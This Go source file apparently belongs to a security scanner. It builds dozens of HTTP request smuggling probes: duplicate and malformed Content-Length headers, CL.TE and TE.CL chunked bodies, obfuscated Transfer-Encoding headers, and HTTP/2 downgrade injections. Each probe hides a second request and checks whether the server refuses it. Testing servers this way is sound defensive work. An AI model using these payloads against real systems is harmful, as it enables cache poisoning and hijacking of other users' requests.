package attack

import (
	"context"
	"fmt"
	"math/big"
	"strconv"
	"strings"
)

// hidden is a request that nobody may do, and without a token; {inner} marks it.
const hidden = "GET /zlattack/{inner} HTTP/1.1\r\nHost: {host}\r\nX-Request-Id: {inner}\r\n\r\n"

// framed refuses a request whose end is not clear. The second answer is to the hidden one.
var framed = refusal{statuses: []int{400, 401, 403, 404, 405, 411, 413, 422, 501}, alert: true, end: true}

// smuggle sends a head that says where its body ends in two ways. In the head {size} is the
// size of the body in bytes, and {line} that of its first line.
func smuggle(id, title, body string, head ...string) Attack {
	return Attack{ID: "smuggling/" + id, Title: title, judged: byInner, refused: framed, send: func(ctx context.Context, p *play) Reply {
		body := p.expand(body)
		text := request("{post} {posted}?{query}", append([]string{"{bearer}"}, head...)...)
		return pipelined(sized(text, body)+body)(ctx, p)
	}}
}

// sized puts the size of a body into the head before it.
func sized(head, body string) string {
	return strings.ReplaceAll(head, "{size}", strconv.Itoa(len(body)))
}

// ended is a body in chunks that ends at once: the hidden request stands behind it.
const ended = "0\r\n\r\n" + hidden

// held is one that holds the hidden request in a chunk.
func held(p *play) string {
	h := p.expand(hidden)
	return fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(h), h)
}

// lengths are bodies with two lengths, or one that can be read in two ways.
func lengths() []Attack {
	return []Attack{
		smuggle("two-lengths", "two Content-Length headers", hidden, "Content-Length: {size}", "Content-Length: 0"),
		smuggle("two-lengths-short-first", "two Content-Length headers, the short one first", hidden, "Content-Length: 0", "Content-Length: {size}"),
		smuggle("list-of-lengths", "Content-Length: 0, n", hidden, "Content-Length: 0, {size}"),
		smuggle("length-sign", "Content-Length: +n", hidden, "Content-Length: +{size}"),
		smuggle("length-minus", "Content-Length: -1", hidden, "Content-Length: -1"),
		smuggle("length-blank", "a blank within Content-Length", hidden, "Content-Length: {size} 0"),
		smuggle("length-colon", "a blank before the colon of Content-Length", hidden, "Content-Length : {size}"),
		smuggle("length-hex", "Content-Length in another base", hidden, "Content-Length: 0x{size}"),
		{ID: "smuggling/length-wrapped", Title: "a Content-Length that is the body's, and 64 bits more", judged: byInner, refused: framed, send: wrapped},
		smuggle("length-large", "a Content-Length of more than 64 bits", hidden, "Content-Length: 18446744073709551616"),
	}
}

// encodings are bodies of Transfer-Encoding that somebody may not see.
func encodings() []Attack {
	out := []Attack{
		smuggle("cl.te", "Content-Length beside Transfer-Encoding, the request behind the last chunk", ended, "Content-Length: {size}", "Transfer-Encoding: chunked"),
		{ID: "smuggling/te.cl", Title: "Content-Length beside Transfer-Encoding, the request within a chunk", judged: byInner, refused: framed, send: insideChunk},
	}
	for _, o := range []struct{ id, title, header string }{
		{"blank", "a blank before the colon of Transfer-Encoding", "Transfer-Encoding : chunked"},
		{"fold", "Transfer-Encoding on a folded line", "X-Attack: a\r\n Transfer-Encoding: chunked"},
		{"tab", "a tab in Transfer-Encoding", "Transfer-Encoding:\tchunked"},
		{"vertical", "a vertical tab in Transfer-Encoding", "Transfer-Encoding:\x0bchunked"},
		{"x", "Transfer-Encoding: xchunked", "Transfer-Encoding: xchunked"},
		{"identity", "Transfer-Encoding twice", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"},
		{"list", "Transfer-Encoding: chunked, identity", "Transfer-Encoding: chunked, identity"},
		{"quoted", "Transfer-Encoding in quotes", `Transfer-Encoding: "chunked"`},
		{"case", "Transfer-Encoding: CHUNKED", "Transfer-Encoding: CHUNKED"},
		{"underscore", "Transfer_Encoding", "Transfer_Encoding: chunked"},
		{"line-feed", "Transfer-Encoding behind a bare line feed", "X-Attack: a\nTransfer-Encoding: chunked"},
		{"return", "Transfer-Encoding behind a bare return", "X-Attack: a\rTransfer-Encoding: chunked"},
		{"null", "Transfer-Encoding with a null", "Transfer-Encoding: chunked\x00"},
	} {
		out = append(out, smuggle("te."+o.id, o.title, ended, "Content-Length: {size}", o.header))
	}
	return append(out,
		smuggle("chunk-size", "a size of a chunk beyond 64 bits", "10000000000000000\r\n"+hidden, "Transfer-Encoding: chunked"),
		smuggle("chunk-extension", "a line feed in the extension of a chunk", "2;\nxx\r\n0\r\n\r\n"+hidden, "Transfer-Encoding: chunked"),
		smuggle("expect", "Expect: 100-continue, and a body at once", hidden, "Content-Length: 0", "Expect: 100-continue"),
		smuggle("upgrade", "an upgrade to HTTP/2 without TLS", hidden, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"),
		smuggle("websocket", "an upgrade that nobody asked for", hidden, "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 7", "Sec-WebSocket-Key: emxhdHRhY2t6bGF0dGFjaw=="),
	)
}

// wrapped says a length that who counts in 64 bits takes for the body's, and who does not
// for one that never ends.
func wrapped(ctx context.Context, p *play) Reply {
	body := p.expand(hidden)
	size := new(big.Int).Add(new(big.Int).Lsh(big.NewInt(1), 64), big.NewInt(int64(len(body))))
	return pipelined(request("{post} {posted}?{query}", "{bearer}", "Content-Length: "+size.String())+body)(ctx, p)
}

// insideChunk has the hidden request begin where who counts by Content-Length thinks that
// the body has ended.
func insideChunk(ctx context.Context, p *play) Reply {
	body := held(p)
	line := strconv.FormatInt(int64(len(p.expand(hidden))), 16) + "\r\n"
	text := request("{post} {posted}?{query}", "{bearer}", "Content-Length: "+strconv.Itoa(len(line)), "Transfer-Encoding: chunked")
	return pipelined(text+body)(ctx, p)
}

// smuggledByHTTP2 are streams that become two requests where they are written as HTTP/1.1.
func smuggledByHTTP2() []Attack {
	stream := func(id, title, body string, more ...field) Attack {
		head := ask(append([]field{{":method", "{post}"}, {":path", "{posted}?{query}"}, bearer}, more...)...)
		return Attack{ID: "smuggling/h2." + id, Title: title + ", in HTTP/2", judged: byInner, refused: framed, send: frames(head, body)}
	}
	return []Attack{
		stream("cl", "Content-Length: 0 and a body", hidden, field{"content-length", "0"}),
		stream("te", "Transfer-Encoding", ended, field{"transfer-encoding", "chunked"}),
		stream("header-line", "a line break in a header's value", ended, field{"x-attack", "a\r\ntransfer-encoding: chunked"}),
		stream("header-request", "a request in a header's value", "", field{"x-attack", "a\r\n\r\n" + hidden}),
		stream("name-line", "a line break in a header's name", ended, field{"x-attack: a\r\ntransfer-encoding", "chunked"}),
		stream("name-colon", "a colon in a header's name", ended, field{"transfer-encoding:", "chunked"}),
		stream("name-case", "capitals in a header's name", ended, field{"Transfer-Encoding", "chunked"}),
		stream("path-line", "a line break in the path", "", field{":path", "{path} HTTP/1.1\r\nHost: {host}\r\n\r\n" + hidden}),
		stream("path-blank", "a blank in the path", "", field{":path", "{path} HTTP/1.1"}),
		stream("method-line", "a line break in the method", "", field{":method", "GET /zlattack/{inner} HTTP/1.1\r\nX: "}),
		stream("method-blank", "a blank in the method", "", field{":method", "GET /zlattack/{inner} "}),
		stream("authority-line", "a line break in the host", "", field{":authority", "{host}\r\ntransfer-encoding: chunked"}),
		stream("connection", "a header of HTTP/1.1's connections", "", field{"connection", "x-request-id, transfer-encoding"}),
		{ID: "smuggling/h2.two-paths", Title: "two paths, in HTTP/2", judged: byInner, refused: framed, send: frames(append(ask(), field{":path", "/zlattack/{inner}"}, bearer), "")},
	}
}
